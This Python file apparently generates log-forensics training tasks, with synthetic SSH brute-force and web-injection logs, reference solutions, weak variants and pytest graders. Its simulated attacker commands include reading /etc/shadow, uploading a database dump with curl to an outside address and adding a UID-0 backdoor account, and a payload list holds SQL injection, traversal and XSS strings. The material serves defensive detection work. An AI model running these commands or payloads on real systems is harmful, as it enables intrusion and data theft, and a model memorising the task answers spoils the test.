"""Log forensics: who tried passwords and got in, and what an application was made to give away."""

from __future__ import annotations

import json
import random
from urllib.parse import quote

from pipeline.generators.domains.security.commands import changed, python
from pipeline.generators.drafts import Context, Draft, TaskFile, chance, filled
from pipeline.types import Variant

_USERS = ("amira", "bosse", "chidi", "daria", "emeka", "freya", "gustav", "hanne")
_GUESSED = ("root", "admin", "oracle", "postgres", "test", "ubuntu", "backup")
_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")


def _stamp(second: int, month: int, iso: bool) -> str:
    day, rest = divmod(second, 86400)
    clock = f"{rest // 3600:02}:{rest % 3600 // 60:02}:{rest % 60:02}"
    return f"2025-{month:02}-{day + 1:02}T{clock}+00:00" if iso else f"{_MONTHS[month - 1]} {day + 1:2} {clock}"


class _AuthLog:
    """Lines of an sshd and a sudo, and what is true of them."""

    def __init__(self, rng: random.Random, iso: bool) -> None:
        self._rng = rng
        self._iso = iso
        self._month = rng.randint(1, 12)
        self.lines: list[tuple[int, str]] = []
        self.failures: dict[str, list[int]] = {}

    def time(self, second: int) -> str:
        return _stamp(second, self._month, self._iso)

    def line(self, second: int, program: str, text: str) -> None:
        process = f"[{self._rng.randint(900, 32000)}]" if program == "sshd" else ""
        self.lines.append((second, f"{self.time(second)} gate {program}{process}: {text}"))

    def failed(self, second: int, user: str, address: str, times: int = 1) -> None:
        known = "" if user in _USERS or user == "root" else "invalid user "
        text = f"Failed password for {known}{user} from {address} port {self._rng.randint(1025, 65000)} ssh2"
        self.line(second, "sshd", text if times == 1 else f"message repeated {times} times: [ {text}]")
        self.failures.setdefault(address, []).extend([second] * times)

    def accepted(self, second: int, user: str, address: str, way: str = "password") -> None:
        port = self._rng.randint(1025, 65000)
        self.line(second, "sshd", f"Accepted {way} for {user} from {address} port {port} ssh2")

    def sudo(self, second: int, user: str, command: str) -> None:
        self.line(second, "sudo", f"   {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={command}")


_AUTH_SOLUTION = r"""
import glob, json, re
lines = []
for name in ("/var/log/gate/auth.log.1", "/var/log/gate/auth.log"):
    lines += open(name).read().splitlines()
failures, accepted, commands = {}, [], []
for line in lines:
    time, rest = re.match(r"(\S+T\S+|\w{3} [ \d]\d [\d:]{8}) gate (.*)", line).groups()
    repeat = re.search(r"message repeated (\d+) times", rest)
    if m := re.search(r"Failed password for .* from (\S+) port", rest):
        failures.setdefault(m[1], []).extend([time] * (int(repeat[1]) if repeat else 1))
    elif m := re.search(r"Accepted \w+ for (\S+) from (\S+) port", rest):
        accepted.append((time, m[1], m[2], len(commands)))
    elif m := re.search(r"sudo: +(\S+) : .*COMMAND=(.*)", rest):
        commands.append((m[1], m[2]))
bad = {a: t for a, t in failures.items() if len(t) >= LIMIT}
time, user, address, position = next(x for x in accepted if x[2] in bad)
report = {
    "attackers": [
        {"address": a, "failures": len(t), "first": t[0], "last": t[-1]}
        for a, t in sorted(bad.items(), key=lambda item: (-len(item[1]), item[0]))
    ],
    "compromised": {"user": user, "address": address, "time": time},
    "commands": [c for u, c in commands[position:] if u == user],
}
json.dump(report, open("/work/incident.json", "w"), indent=1)
"""


def auth_forensics(seed: int, context: Context) -> Draft:
    """Who guessed passwords, whose account fell, and what was done with it."""
    rng = chance("security", "auth_forensics", seed)
    log = _AuthLog(rng, iso=seed % 2 == 1)
    limit = rng.choice((8, 10, 12))
    attackers = [f"203.0.113.{n}" for n in rng.sample(range(2, 250), 3)]
    victim, honest = rng.sample(_USERS, 2)
    for number, address in enumerate(attackers):
        second = 40_000 + number * 70_000
        for _ in range(limit + rng.randint(-1, 1) * 2 + number * 3):
            second += rng.randint(2, 90)
            log.failed(second, rng.choice(_GUESSED), address, rng.choice((1, 1, 1, 2, 3)))
        if number == 1:
            log.failed(second + 5, victim, address, limit)
            log.accepted(fallen := second + 30, victim, address)
    for _ in range(limit - 3):
        log.failed(rng.randint(10, 150_000), honest, "198.51.100.23")
    log.accepted(150_100, honest, "198.51.100.23")
    before, after = rng.sample(("/usr/bin/apt update", "/bin/journalctl -n 50", "/usr/bin/lsof -i"), 2)
    log.sudo(fallen - 900, victim, before)
    done = [
        "/usr/bin/cat /etc/shadow",
        f"/usr/bin/curl -T /srv/db-{seed}.dump 203.0.113.1",
        "/usr/sbin/useradd -o -u 0 svc",
    ]
    rng.shuffle(done)
    for number, command in enumerate(done):
        log.sudo(fallen + 60 + number * 45, victim, command)
    log.sudo(fallen + 100, honest, after)
    for _ in range(60):
        log.accepted(rng.randint(10, 250_000), rng.choice(_USERS), f"198.51.100.{rng.randint(2, 20)}", "publickey")
    ordered = [line for _, line in sorted(log.lines, key=lambda entry: entry[0])]
    cut = len(ordered) // 3
    bad = {a: sorted(t) for a, t in log.failures.items() if len(t) >= limit}
    expected = {
        "attackers": [
            {"address": a, "failures": len(t), "first": log.time(t[0]), "last": log.time(t[-1])}
            for a, t in sorted(bad.items(), key=lambda item: (-len(item[1]), item[0]))
        ],
        "compromised": {"user": victim, "address": attackers[1], "time": log.time(fallen)},
        "commands": done,
    }
    solution = changed(_AUTH_SOLUTION, ("LIMIT", str(limit)))
    return Draft(
        family="auth_forensics",
        seed=seed,
        difficulty="hard",
        instruction="Somebody got into our gateway through SSH. The logs are /var/log/gate/auth.log and, older, "
        "/var/log/gate/auth.log.1. Please reconstruct it and leave the findings in /work/incident.json, one object:\n"
        f"- `attackers`: every source address with at least {limit} failed password attempts over both logs. A line "
        "`message repeated N times: [ ... ]` stands for N attempts. Per address an object with `address`, `failures` "
        "(number), `first` and `last` (time of its first and last failed attempt, as written in the log up to the host "
        "name, without the space before it). Most failures first; equal ones by address in text order.\n"
        "- `compromised`: `user`, `address`, `time` of the first login that one of these addresses managed.\n"
        "- `commands`: list of what that user ran by sudo after this login, in order, exactly the text after "
        "`COMMAND=`.\nThe logs must stay as they are.",
        files=(
            TaskFile(path="/var/log/gate/auth.log.1", text="\n".join(ordered[:cut]) + "\n", mode=0o640),
            TaskFile(path="/var/log/gate/auth.log", text="\n".join(ordered[cut:]) + "\n", mode=0o640),
        ),
        solution=(python(solution),),
        right=(
            Variant(name="compact_json", commands=(python(changed(solution, (", indent=1", ", sort_keys=True"))),)),
        ),
        weak=(
            Variant(
                name="repeats_ignored",
                commands=(python(changed(solution, ("(int(repeat[1]) if repeat else 1)", "1"))),),
            ),
            Variant(
                name="newest_log_only",
                commands=(python(changed(solution, ('"/var/log/gate/auth.log.1", ', ""))),),
            ),
            Variant(
                name="everybody_s_commands",
                commands=(python(changed(solution, (" if u == user]", "]"))),),
            ),
        ),
        verifier=filled(
            """
import json

import pytest

EXPECTED = __EXPECTED__


@pytest.fixture
def incident(box):
    return json.loads(box.text("/work/incident.json"))


def test_attackers_with_counts_and_times(incident):
    found = [(a["address"], a["failures"], a["first"], a["last"]) for a in incident["attackers"]]
    assert found == [tuple(a[k] for k in ("address", "failures", "first", "last")) for a in EXPECTED["attackers"]]


def test_account_that_fell(incident):
    assert incident["compromised"] == EXPECTED["compromised"]


def test_commands_after_the_login(incident):
    assert incident["commands"] == EXPECTED["commands"]
""",
            expected=expected,
        ),
    )


_PATTERNS = {
    "sql": ("1' UNION SELECT login,hash FROM accounts--", "x' OR 1=1--", "7 union/**/select 1,2,3"),
    "traversal": ("../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "static/../../config.yml"),
    "xss": ("<script>alert(1)</script>", '"><ScRiPt src=//203.0.113.9/x.js>'),
}
_PAGES = (
    "/",
    "/shop",
    "/shop/item?id=12",
    "/search?q=union+workers+select+committee",
    "/docs/a..b/c",
    "/cart?x=script",
)
_WEB_SOLUTION = r"""
import glob, gzip, json, re
from urllib.parse import unquote_plus
found = {}
for name in glob.glob("/work/logs/access.log*"):
    opened = gzip.open(name, "rt") if name.endswith(".gz") else open(name)
    for line in opened:
        if line.startswith("{"):
            entry = json.loads(line)
            address, target, status, size = entry["ip"], entry["uri"], entry["status"], entry["bytes"]
        else:
            m = re.search(r'(\S+) \S+ \S+ \[[^]]*\] "\S+ (\S+) [^"]*" (\d+) (\d+|-)', line)
            address, target, status, size = m[1], m[2], int(m[3]), int(m[4].replace("-", "0"))
        while (decoded := unquote_plus(target)) != target:
            target = decoded
        text = target.lower().replace("/**/", " ").replace("\\", "/")
        kinds = {
            "sql": "union select" in text or "' or " in text,
            "traversal": "../" in text,
            "xss": "<script" in text,
        }
        if any(kinds.values()):
            row = found.setdefault(address, {"sql": 0, "traversal": 0, "xss": 0, "bytes": 0})
            for kind, hit in kinds.items():
                row[kind] += hit
            row["bytes"] += size if status == 200 else 0
with open("/work/attempts.tsv", "w") as out:
    print("address", "sql", "traversal", "xss", "bytes", sep="\t", file=out)
    for address, row in sorted(found.items(), key=lambda item: (-item[1]["bytes"], item[0])):
        print(address, row["sql"], row["traversal"], row["xss"], row["bytes"], sep="\t", file=out)
"""


def _request(rng: random.Random, kind: str) -> str:
    text = rng.choice(_PATTERNS[kind])
    encoded = quote(text, safe="" if rng.random() < 0.7 else "/.")
    for _ in range(rng.choice((0, 0, 1, 2))):
        encoded = quote(encoded, safe="")
    if kind == "sql" and rng.random() < 0.3:
        encoded = encoded.replace("%20", "+")
    return rng.choice(("/search?q=", "/download?file=", "/shop/item?id=", "/profile?name=")) + encoded


def web_injection(seed: int, context: Context) -> Draft:
    """Injection attempts in rotated access logs, and how much they brought."""
    rng = chance("security", "web_injection", seed)
    addresses = [f"192.0.2.{n}" for n in rng.sample(range(3, 250), 9)]
    attackers = dict(zip(addresses, ("sql", "traversal", "xss", "sql"), strict=False))
    rows: dict[str, list[int]] = {}
    lines = []
    for number in range(260):
        address = rng.choice(addresses)
        kind = attackers.get(address) if rng.random() < 0.45 else None
        kind = rng.choice(tuple(_PATTERNS)) if kind and rng.random() < 0.2 else kind
        target = _request(rng, kind) if kind else rng.choice(_PAGES)
        status = rng.choice((200, 200, 403, 500) if kind else (200, 200, 200, 304, 404))
        size = rng.randint(180, 90_000) if status != 304 else 0
        if kind:
            row = rows.setdefault(address, [0, 0, 0, 0])
            row[tuple(_PATTERNS).index(kind)] += 1
            row[3] += size if status == 200 else 0
        day, clock = 3 + number // 90, f"{number % 24:02}:{rng.randint(0, 59):02}:{rng.randint(0, 59):02}"
        if seed == 1:
            entry = {"at": f"2025-06-{day:02}T{clock}Z", "ip": address, "uri": target, "status": status, "bytes": size}
            lines.append(json.dumps(entry))
        else:
            host = f"www{rng.randint(1, 2)}.shop.example " if seed == 2 else ""
            shown = "-" if size == 0 else size
            lines.append(
                f'{host}{address} - - [{day:02}/Jun/2025:{clock} +0000] "GET {target} HTTP/1.1" {status} {shown} '
                f'"-" "Mozilla/5.0"'
            )
    expected = [[a, *r] for a, r in sorted(rows.items(), key=lambda item: (-item[1][3], item[0]))]
    shape = {
        1: "JSON objects, one a line (`ip`, `uri`, `status`, `bytes`)",
        2: "the combined format with the name of the virtual host before it",
    }.get(seed, "the combined format")
    parts = {
        f"/work/logs/access.log{end}": lines[a:b] for end, a, b in (("", 180, 260), (".1", 90, 180), (".2", 0, 90))
    }
    return Draft(
        family="web_injection",
        seed=seed,
        difficulty="hard",
        instruction=f"We think the shop was probed and lost data. /work/logs holds access.log and its rotated, partly "
        f"compressed predecessors, in {shape}. Classify every request by its target: undo percent-encoding (and "
        f"`+` for "
        "a space) again and again until nothing changes, ignore case, take `/**/` as a space and a backslash as a "
        "slash. Then it is\n"
        "  sql when `union select` or `' or ` (quote, space, or, space) occurs,\n"
        "  traversal when `../` occurs,\n"
        "  xss when `<script` occurs;\n"
        "a request may be of several kinds and counts for each. Write /work/attempts.tsv, tab-separated: a header "
        "`address sql traversal xss bytes`, then a row for each client address with at least one such request: the "
        "three counts over all logs, and the bytes of the responses to its suspicious requests that were answered with "
        "200. Largest bytes first, ties by address as text.",
        files=tuple(TaskFile(path=path, text="\n".join(part) + "\n") for path, part in parts.items()),
        setup=("gzip -n /work/logs/access.log.2",),
        solution=(python(_WEB_SOLUTION),),
        right=(Variant(name="crlf_lines", commands=(python(_WEB_SOLUTION), "sed -i 's/$/\\r/' /work/attempts.tsv")),),
        weak=(
            Variant(
                name="decoded_once",
                commands=(
                    python(
                        changed(
                            _WEB_SOLUTION,
                            (
                                "while (decoded := unquote_plus(target)) != target:\n            target = decoded",
                                "target = unquote_plus(target)",
                            ),
                        )
                    ),
                ),
            ),
            Variant(
                name="all_answers_counted",
                commands=(python(changed(_WEB_SOLUTION, (" if status == 200 else 0", ""))),),
            ),
            Variant(
                name="compressed_left_out",
                commands=(python(changed(_WEB_SOLUTION, ('log*"', 'log"'))),),
            ),
        ),
        verifier=filled(
            """
ROWS = __ROWS__
TABLE = "/work/attempts.tsv"


def cells(text):
    return [line.split("\\t") for line in text.splitlines()]


def test_header(box):
    assert cells(box.text(TABLE))[0] == ["address", "sql", "traversal", "xss", "bytes"]


def test_attempts_by_kind(box):
    counts = {first: list(map(int, kinds)) for first, *kinds, _ in cells(box.text(TABLE))[1:]}
    assert counts == {row[0]: row[1:4] for row in ROWS}


def test_bytes_and_order(box):
    assert [(line[0], int(line[-1])) for line in cells(box.text(TABLE))[1:]] == [(row[0], row[4]) for row in ROWS]
""",
            rows=expected,
        ),
    )
